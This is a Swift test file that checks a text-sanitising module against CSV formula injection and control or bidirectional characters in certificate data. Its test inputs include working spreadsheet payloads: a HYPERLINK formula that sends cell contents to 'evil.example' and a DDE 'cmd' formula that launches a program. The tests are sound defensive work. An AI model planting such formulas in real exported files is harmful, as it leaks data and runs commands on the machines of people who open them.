@testable import Corpus
import Foundation
import Inventory
import Terminal
import TestSupport
import Testing

/// What hostile certificates say must stay text wherever it is written.
@Suite struct SafeTextTests {
    /// Beginnings of formulas, as spreadsheets know them, and ways to hide one.
    static let hostile: [String] = {
        let formulas = [
            "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "=cmd|' /C calc'!A0", "\u{ff1d}1+1", "\u{ff0b}1", "\u{ff0d}1", "\u{ff20}SUM(1)",
        ]
        let hidden = [
            "", " ", "\t", "\r", "\n", "\r\n", "'", "''", "\u{0}", "\u{a0}", "\u{feff}", "\u{200b} ",
        ]
        let before = [
            "", "Example", "a;", "a; ", "a\t", "a\n", "a\r\n", "\"", "a\",", "a\";\"", ";", ",", "',;",
        ]
        return formulas.flatMap { formula in
            hidden.flatMap { blank in before.map { $0 + blank + formula } }
        }
    }()

    /// No spreadsheet sees a formula, whichever separator it was told; whoever reads it as we wrote it gets
    /// it whole.
    @Test func noCellIsAFormula() throws {
        let scratch = Scratch()
        let rows = Self.hostile.map { "before," + SafeText.csv($0) + "," + SafeText.csv("x") + "\r\n" }
        try scratch.write("hostile.csv", rows.joined())
        let texts = try JSONSerialization.data(withJSONObject: Self.hostile)
        try texts.write(to: URL(fileURLWithPath: scratch.file("hostile.json")))
        let program = """
            import csv, json, re, sys
            text = open(sys.argv[1], newline='', encoding='utf-8').read()
            start = re.compile('^[\\\\s\\0\\u00a0\\u00ad\\ufeff\\u200b-\\u200f\\u2060"]*[=+\\\\-@\\uff1d\\uff0b\\uff0d\\uff20]')
            def check(cells, how):
                for cell in cells:
                    assert not start.match(cell), (how, cell)
            rows = list(csv.reader(text.splitlines(keepends=True)))
            for row in csv.reader(__import__('io').StringIO(text, newline='')):
                check(row, 'as written')
                assert len(row) == 3 and row[0] == 'before' and row[2] == 'x', row
            # Quotes that do not stand at the begin of what this program takes for a cell mean nothing to it.
            for separator in ';\\t':
                for row in csv.reader(__import__('io').StringIO(text, newline=''), delimiter=separator):
                    check(row, separator)
            for piece in re.split('[;\\t\\r\\n]', text):
                check([piece], 'in pieces')
            read = [row[1] for row in csv.reader(__import__('io').StringIO(text, newline=''))]
            print(len(read), len(json.load(open(sys.argv[2]))))
            """
        let counts = try check(
            "python3",
            ["-c", program, scratch.file("hostile.csv"), scratch.file("hostile.json")]
        )
        #expect(counts.text == "\(Self.hostile.count) \(Self.hostile.count)\n")
        let records = try CSVReader.records(Array(rows.joined().utf8), file: "hostile.csv")
        #expect(records.map { $0.cells[1] } == Self.hostile)
    }

    /// Any text comes back as it went in.
    @Test func everyTextComesBack() throws {
        var random = SystemRandomNumberGenerator()
        let pieces = [
            "'", "=", "-", ";", "\t", "\n", "\r", "\"", ",", " ", "a", "\u{ff1d}", "\u{feff}", "\u{0}", "é",
            "\\", "\\u{", "\\u{41}", "}", "\u{1b}[2J", "\u{9b}", "\u{202e}", "\u{e000}",
        ]
        for _ in 0..<3000 {
            let text = (0..<Int.random(in: 0...12, using: &random)).map { _ in
                pieces.randomElement(using: &random) ?? ""
            }.joined()
            let line = "x," + SafeText.csv(text) + "\r\n"
            let records = try CSVReader.records(Array(line.utf8), file: "x.csv")
            #expect(records.first?.cells == ["x", text], "\(line.debugDescription)")
        }
    }

    /// A row is one line in which no character acts, whatever a certificate says.
    @Test func everyActiveCharacterIsWrittenOut() throws {
        let scalars =
            (Array(0...0x1f) + Array(0x7f...0x9f) + Array(0x2028...0x202e) + Array(0x2066...0x2069) + [
                0x61c, 0xfeff,
            ])
            .compactMap { Unicode.Scalar(UInt32($0)) }
        for scalar in scalars {
            for text in ["\(scalar)", "a\(scalar)=1", "\(scalar)=1", "a,\(scalar);b\"", "\\\(scalar)"] {
                let cell = SafeText.csv(text)
                #expect(!cell.unicodeScalars.contains(scalar), "\(cell.debugDescription)")
                let back = try CSVReader.records(Array("x,\(cell)\r\n".utf8), file: "x.csv")
                #expect(back.map(\.cells) == [["x", text]], "\(cell.debugDescription)")
            }
        }
    }

    @Test func whatIsNoFormulaStaysAsItIs() {
        for text in ["", "Example", "one.example", "a-b", "3+4", "O=Example, CN=x", "it's", "'quoted'"] {
            #expect(!SafeText.csv(text).hasPrefix("'") || text.hasPrefix("'"), "\(text)")
            #expect(SafeText.csv(text).filter { $0 != "\"" } == text)
        }
    }

    /// A page has none of them, and whoever reads it can tell which one was there, line ends among them.
    @Test func everyActiveCharacterIsWrittenOutInMarkup() throws {
        let values =
            Array(0...0x1f) + Array(0x7f...0x9f) + [0xad, 0x200b, 0x2028, 0x202e, 0x2066, 0xfeff, 0xfffe]
        for scalar in values.compactMap({ Unicode.Scalar(UInt32($0)) }) {
            let text = SafeText.markup("a\(scalar)<b")
            #expect(text == "a\\u{\(String(scalar.value, radix: 16))}&lt;b", "\(text.debugDescription)")
            #expect(text.contains(SafeText.terminal("\(scalar)")))
        }
    }
}
